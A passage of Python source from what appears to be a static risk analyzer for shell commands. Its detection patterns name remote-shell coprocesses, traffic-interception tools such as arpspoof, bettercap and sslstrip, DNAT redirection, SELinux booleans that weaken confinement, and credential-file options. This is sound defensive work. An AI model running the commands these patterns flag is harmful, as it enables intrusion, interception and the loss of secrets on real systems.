_NOUNSET = re.compile(r"^\s*set\s+-[a-zA-Z]*u|\bset\s+-o\s+nounset\b", re.MULTILINE)
_ALWAYS_SET = frozenset({"HOME", "PWD", "USER", "TMPDIR", "PATH", "SHELL", "GITHUB_WORKSPACE", "RUNNER_TEMP"})
#: Commands that keep all of their input in memory (buffering filters, bash's array readers).
_SLURPERS = T.BUFFERING | {"mapfile", "readarray"}
#: bash's coprocess running an interactive shell: fed from a socket, a remote shell.
_COPROC_SHELL = re.compile(r"\bcoproc\b[^\n]*\b(?:ba|z|da)?sh\s+-i\b")
#: Kernel settings that only raise a capacity limit (maps, watches, queues, ports).
def _selinux_weakened(name: str, args: list[str]) -> str | None:
    """``semanage permissive -a httpd_t`` (a domain's confinement off), ``setsebool -P httpd_execmem=1`` (a
    boolean that lets confined programs write and run code or log in as the administrator)."""
    if name == "semanage" and args[:1] == ["permissive"] and any(a in ("-a", "--add") for a in args):
        domains = [a for a in args[1:] if not a.startswith("-")]
        return f"semanage makes SELinux domain {domains[0] if domains else '…'} permissive (its confinement is off)"
    if name != "setsebool":
        return None
    pairs = [a.split("=", 1) for a in args if "=" in a]
    pairs += [[args[i], args[i + 1]] for i in range(len(args) - 1) if "=" not in args[i] and not args[i].startswith("-")
              and args[i + 1].lower() in ("1", "on", "true", "0", "off", "false")]  # fmt: skip
    bad = [key for key, value in pairs
           if key in _SELINUX_BOOLEANS and _SELINUX_BOOLEANS[key] == (value.lower() in ("1", "on", "true"))]
    if not bad:
        return None
    return f"setsebool sets SELinux booleans that open confined programs up ({', '.join(bad[:3])})"


#: SELinux booleans and the setting (True: on) that weakens confinement: executable memory, the administrator's
#: login over ssh, programs writing what they run, kernel modules and policy reloads, ptrace.
_SELINUX_BOOLEANS = {
    "httpd_execmem": True, "httpd_unified": True, "ssh_sysadm_login": True, "allow_execmem": True,
    "allow_execstack": True, "selinuxuser_execmod": True, "selinuxuser_execstack": True, "selinuxuser_execheap": True,
    "domain_kernel_load_modules": True, "mmap_low_allowed": True, "deny_ptrace": False, "secure_mode_policyload": False,
    "secure_mode_insmod": False, "deny_execmem": False,
}  # fmt: skip
_GIT_CLONE_VALUED = frozenset({"-b", "--branch", "--depth", "-o", "--origin", "-c", "--config", "--reference",
                               "--separate-git-dir", "--filter", "-j", "--jobs", "--template", "-u", "--upload-pack",
                               "--shallow-since", "--shallow-exclude"})  # fmt: skip
_NAMED_NOT_FILES = frozenset({"vault", "kubectl", "oc", "doppler", "infisical", "modinfo", "modprobe", "rmmod", "ufw",
                              "firewall-cmd", "systemctl", "wg", "wg-quick", "tailscale",
                              # platforms' CLIs whose `secrets` is a subcommand (`supabase secrets set K=$V`)
                              "supabase", "fly", "flyctl", "heroku", "railway", "wrangler", "gh", "glab", "bws",
                              "render"})  # fmt: skip
#: Options of cloud CLIs whose value names a resource (a vault, a key, a secret), never a local file.
_RESOURCE_NAME_OPTIONS = frozenset({"--name", "-n", "--vault-name", "--key-name", "--secret-name", "--keyring"})
#: cryptsetup's verbs that rewrite a device (a header, its key slots, its data).
_CRYPTSETUP_WRITES = frozenset({"luksFormat", "reencrypt", "luksErase", "erase", "luksKillSlot", "luksRemoveKey",
                                "luksHeaderRestore", "repair", "convert", "format"})  # fmt: skip
_CRYPTSETUP_VALUED = frozenset({"--key-file", "-d", "--type", "-M", "--header", "--keyfile-size", "-l", "--cipher",
                                "-c", "--key-size", "-s", "--pbkdf", "--header-backup-file", "--key-slot",
                                "-S"})  # fmt: skip
#: Script files a database shell runs when named (a database file operand is not one).
_CLIENT_SCRIPTS = (".js", ".sql", ".cql", ".hql", ".q", ".mongodb")
def _recent_window_days(tests: list[str]) -> int:
    """The widest `-mtime -N` / `-ctime -N` / `-mmin -N` window of a find expression, in whole days (0 if none)."""
    days = 0
    for k, test in enumerate(tests[:-1]):
        value = tests[k + 1]
        if test in ("-mtime", "-ctime", "-mmin") and re.fullmatch(r"-\d{1,6}", value):
            days = max(days, int(value[1:]) // (1440 if test == "-mmin" else 1))
    return days


#: A share's or an application's whole data folder: one level below /srv, /data, /mnt, /home or /var/www.
_DATA_FOLDER_ROOT = re.compile(r"/(?:srv|data|mnt|home|var/www)/[\w.-]+")
#: A named container volume's data folder (`/var/lib/docker/volumes/app_assets/_data`).
_VOLUME_DATA = re.compile(r"/var/lib/(?:docker|containers/storage)/volumes/[\w.-]+/_data(?:/|$)")
#: find's tests of a file's age (days or minutes since it was changed, modified or read; newer than another file).
_AGE_TESTS = frozenset({"-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-newer"})
_TRIVIAL_AGES = frozenset({("-mtime", "+0"), ("-mmin", "+0"), ("-atime", "+0"), ("-ctime", "+0")})
_SCP_VALUED = frozenset({"-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J", "-D"})
_MODPROBE_QUERIES = frozenset({"-n", "--dry-run", "-D", "--show-depends", "-c", "--showconfig", "--show-config",
                               "--show-modversions", "--dump-modversions", "--show-exports"})  # fmt: skip
#: What turns forwarding into interception or a pivot: inbound DNAT or REDIRECT, a proxy in the middle, rogue DHCP.
_INTERCEPTION = re.compile(r"\b(?:DNAT|REDIRECT|TPROXY|dnsmasq|dhcpd|mitm\w*|arpspoof|bettercap|ettercap|sslstrip)\b",
                           re.IGNORECASE)
_FORWARDING_SYSCTLS = frozenset({"net.ipv4.ip_forward", "net.ipv6.conf.all.forwarding", "net.ipv4.conf.all.forwarding"})
_CAPACITY_SYSCTLS = frozenset(
    {"vm.max_map_count", "fs.inotify.max_user_watches", "fs.inotify.max_user_instances", "fs.file-max",
     "net.core.somaxconn", "net.ipv4.ip_local_port_range", "vm.overcommit_memory", "net.core.rmem_max",
     "net.core.wmem_max", "kernel.pid_max", "net.core.rmem_default", "net.core.wmem_default", "net.core.optmem_max",
     "net.core.netdev_max_backlog", "net.ipv4.tcp_rmem", "net.ipv4.tcp_wmem", "net.ipv4.udp_mem", "vm.swappiness",
     "vm.dirty_ratio", "vm.dirty_background_ratio", "fs.aio-max-nr"}
)  # fmt: skip
def _url_host(url: str) -> str | None:
    """The host and path of a git URL in any of its spellings (``https://h/x``, ``ssh://git@h/x``, ``git@h:x``)."""
    found = re.match(r"^(?:[a-z+]+://)?(?:[^@/]+@)?([\w.-]+\.[a-z]{2,})(?::\d+)?[:/]?(.*)$", url.strip("\"'"),
                     re.IGNORECASE)  # fmt: skip
    return f"{found[1].lower()}/{found[2].strip('/')}" if found else None


#: The compiler asked where its own runtime library is (`$(gcc -print-file-name=libasan.so)`).
_COMPILER_LIBRARY = re.compile(r"^[^=]+=[\"']?\$\(\s*(?:gcc|g\+\+|clang|clang\+\+|cc)(?:-\d+)?\s+"
                               r"-print-file-name=([\w.+-]+)\s*\)[\"']?$")
#: A prompt command that only saves and reloads the history (`history -a; history -n`), shared between shells.
_HISTORY_SYNC = re.compile(r"^\s*history\s+-[anw]\s*(?:;\s*history\s+-[anrw]\s*)*(?:;?\s*" + HOLE + r")?\s*$")
#: Paths whose users are the machine's services or other people (a mount of one is everyone's).
_WHOLE_MOUNTS = frozenset({paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.SYSTEM,
                           paths.PathKind.HOME_TOP, paths.PathKind.EXTERNAL})  # fmt: skip
#: Categories of findings that mean data leaves the machine.
_SENDS_OUT = frozenset({Category.NETWORK, Category.EXFILTRATION})
#: Variables naming a file that shells and interpreters run before anything else.
_STARTUP_FILE_VARIABLES = frozenset({"BASH_ENV", "ENV", "PYTHONSTARTUP"})
_OGR2OGR_VALUED = frozenset({"-f", "-sql", "-nln", "-t_srs", "-s_srs", "-a_srs", "-where", "-lco", "-dsco", "-oo",
                             "-doo", "-select", "-dialect", "-nlt", "-gt", "-spat", "-clipsrc"})  # fmt: skip
#: Programs that run the file they are given as their code (a Makefile's recipes, a playbook's tasks).
_FILE_CODE_RUNNERS = frozenset({"make", "gmake", "ansible-playbook", "docker-compose", "just", "task", "rake",
                                "gradle", "gradlew", "ant", "cmake", "ninja", "latexmk", "gdb"})  # fmt: skip
_INTERCEPTED_PORT = re.compile(r"(?:--dport|\bdport)\s+(?:53|80|443|853)\b")
_DNAT_ELSEWHERE = re.compile(r"-j\s+DNAT\b.*--to-destination\s+(?!127\.|\[?::1)")
_XARGS_VALUED = frozenset({"-a", "-P", "-n", "-d", "-L", "-E", "-s", "--arg-file", "--max-procs", "--max-args",
                           "--delimiter"})  # fmt: skip
#: Zones of a private network (a resolver answering for them is its job).
_INTERNAL_ZONES = (".local", ".lan", ".internal", ".corp", ".home", ".test", ".localdomain", ".intranet", ".arpa")
#: Host folders whose files the host runs or trusts on its own (scheduled jobs, units, profiles, sudo rules).
_HOST_START_DIRS = ("/etc/cron", "/etc/systemd", "/etc/profile.d", "/etc/sudoers.d", "/etc/init.d", "/var/spool/cron",
                    "/etc/ssh", "/etc/ld.so", "/usr/lib/systemd", "/lib/systemd")  # fmt: skip


def _private_registry(image: str) -> bool:
    """``registry.corp.internal/app:1``, ``10.0.0.5:5000/app``: an image name on an organisation's own registry."""
    host = image.split("/", 1)[0] if "/" in image else ""
    return bool(host) and (
        host.split(":", 1)[0].endswith((".internal", ".corp", ".local", ".lan", ".intranet"))
        or private_address(host.split(":", 1)[0])
        or host.startswith("localhost")
    )


_MOUNT_SOURCE = re.compile(r"(?:^|,)(?:source|src)=([^,]+)")
#: Programs that pick a line or a field out of a file by a pattern.
_LINE_PICKERS = frozenset({"grep", "egrep", "awk", "gawk", "mawk", "sed"})
#: Service findings that take a service down (a restart or a reload brings it back).
_STOPS = re.compile(r"\b(?:stop|mask|disable|kill)\b")
#: A substitution that lists the machine's disks and spells their device paths.
_DISK_LISTING = re.compile(r"\b(?:lsblk|blkid|fdisk\s+-l|sfdisk\s+-l)\b[^)]*/dev/")
#: `--exclude=.env`: the option's value spelled after `=`.
_EXCLUDE_ASSIGNMENTS = tuple(o + "=" for o in T.EXCLUDE_OPTIONS)
#: Options that name the file a program reads its own password or token from (`--passfile1`,
#: `--password-file`, `--token-file`).
_CREDENTIAL_FILE_OPTION = re.compile(
    r"--?(?:(?:tls|ssl|client|server)[-_])?(?:pass(?:word|wd)?|token|secret|key|defaults(?:-extra)?)[-_]?file\d?$"
)  # (`--tls-key-file`: a server's own key, which it serves with)
#: zsh syntax tree-sitter-bash does not know: process substitution into a temporary file, the short
#: `for`, glob qualifiers.
_ZSH_IDIOM = re.compile(r"(?:^|\s)=\(|^\s*for\s+\w+\s*\(|[*?]\S*\([.\w/@=*%^:\[\],+-]*\)(?=\s|;|$)", re.MULTILINE)
_ZSH_SHORT_FOR = re.compile(r"^(?P<indent>\s*)for\s+(?P<var>\w+)\s*\((?P<items>[^)]*)\)\s*(?P<body>[^{\s].*)$",
                            re.MULTILINE)  # fmt: skip
_ZSH_QUALIFIER = re.compile(r"(?P<glob>[^\s(]*[*?][^\s(]*)\([.\w/@=*%^:\[\],+-]*\)(?=\s|;|$)", re.MULTILINE)


def _as_bash(code: str) -> str:
    """zsh-only spellings rewritten as bash says them, line for line."""
    code = re.sub(r"(^|\s)=\(", r"\1<(", code, flags=re.MULTILINE)
    code = _ZSH_SHORT_FOR.sub(r"\g<indent>for \g<var> in \g<items>; do \g<body>; done", code)
    return _ZSH_QUALIFIER.sub(r"\g<glob>", code)


def analyze_shell(code: str, *, parse_error_level: RiskLevel = RiskLevel.MEDIUM, depth: int = 0) -> list[Finding]:
    """Findings for the shell script ``code``."""
    return ShellAnalyzer(parse_error_level=parse_error_level, depth=depth).analyze(code)


@attrs.frozen
class ArgvAnalysis:
    """What a command given as argv does: its findings, and what its output is."""

    findings: list[Finding]
    secret: bool  # prints secret data
    every_container: bool  # prints the id of every container (`docker ps -aq`)
    staged: frozenset[str] = frozenset()  # files holding secret data once it ran (given ones included)
    dumps: frozenset[str] = frozenset()  # files holding a database dump or people's records once it ran


def analyze_argv(
    argv: Sequence[str],
    *,
    line: int,
    column: int,
    evidence: str,
    via: str,
    parse_error_level: RiskLevel = RiskLevel.MEDIUM,
    depth: int = 0,
    every_container: bool = False,
    repeated: bool = False,
    staged: frozenset[str] = frozenset(),
    environment: Mapping[str, str] | None = None,
    stdin: str | None = None,
    cwd: str | None = None,
    enclosing: str = "",
) -> ArgvAnalysis:
    """Analyse a command given as argv (from Python). ``every_container``: its arguments are the ids a
    listing of every container printed; ``repeated``: it runs once per element of a loop; ``environment``:
    variables the caller sets for it (``env={"GIT_WORK_TREE": home}``); ``stdin``: the text it is given to read;
    ``cwd``: the folder it runs in (``cwd="/srv/app"``), as a ``cd`` before it would set; ``enclosing``: the code
    that runs it."""
    analyzer = ShellAnalyzer(parse_error_level=parse_error_level, depth=depth, ctx=_Ctx(line, column, evidence, via))
    analyzer.enclosing = enclosing
    analyzer._repeated = repeated
    analyzer._exact_argv = True
    analyzer._argv_text = " ".join(argv)
    analyzer.staged.update(staged)
    analyzer.vars.update({k: value.replace(HOLE_WORD, HOLE) for k, value in (environment or {}).items()})
    analyzer._stdin_text = stdin.replace(HOLE_WORD, HOLE) if stdin is not None else None  # `input=` of the call
    analyzer._cwd = cwd.replace(HOLE_WORD, HOLE) if cwd is not None else None
    words = [a.replace(HOLE_WORD, HOLE) for a in argv]
    flow = analyzer.analyze_argv(words, every_container=every_container)
    return ArgvAnalysis(analyzer.findings, flow.secret, flow.every_container, frozenset(analyzer.staged),
                        frozenset(analyzer._bulk_files))  # fmt: skip


def analyze_inline_code(name: str, code: str, *, depth: int = 0) -> list[Finding]:
    """Findings for source code of a language without a parser here (C, node, perl...) run by ``name``."""
    analyzer = ShellAnalyzer(depth=depth)
    analyzer._other_interpreter(name, code.replace(HOLE, HOLE_WORD), None, "")
    return analyzer.findings


def analyze_shell_nested(
    code: str,
    *,
    line: int,
    column: int,
    evidence: str,
    via: str,
    parse_error_level: RiskLevel = RiskLevel.MEDIUM,
    depth: int = 0,
    dumps: set[str] | None = None,
    enclosing: str = "",
) -> list[Finding]:
    """Findings for shell code embedded in other code, reported at the embedding location. ``dumps``, when given,
    receives the files the code fills with a database dump or people's records; ``enclosing`` is the code the
    shell code is embedded in."""
    if depth >= MAX_DEPTH:
        return [
            Finding(
                "shell.deep-nesting",
                RiskLevel.MEDIUM,
                f"code nested too deeply to analyse (in {via})",
                Category.DYNAMIC_CODE,
                line,
                column,
                evidence,
                ANALYZER,
            )
        ]
    analyzer = ShellAnalyzer(parse_error_level=parse_error_level, depth=depth, ctx=_Ctx(line, column, evidence, via))
    analyzer.enclosing = enclosing
    found = analyzer.analyze(code.replace(HOLE, HOLE_WORD))
    if dumps is not None:
        dumps.update(analyzer._bulk_files)
    return found
